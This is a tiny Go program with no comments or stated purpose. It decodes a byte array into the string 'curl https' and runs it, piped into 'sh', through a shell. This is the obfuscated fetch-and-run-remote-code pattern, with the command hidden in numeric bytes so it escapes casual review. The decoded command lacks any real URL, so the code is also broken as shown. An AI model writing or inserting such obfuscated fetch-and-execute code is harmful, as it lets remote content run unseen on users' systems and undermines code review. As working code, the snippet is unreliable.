package main
import "os/exec"
func main() {
	c := string([]byte{99,117,114,108,32,104,116,116,112,115})
	exec.Command("sh", "-c", c+" | sh").Run()
}
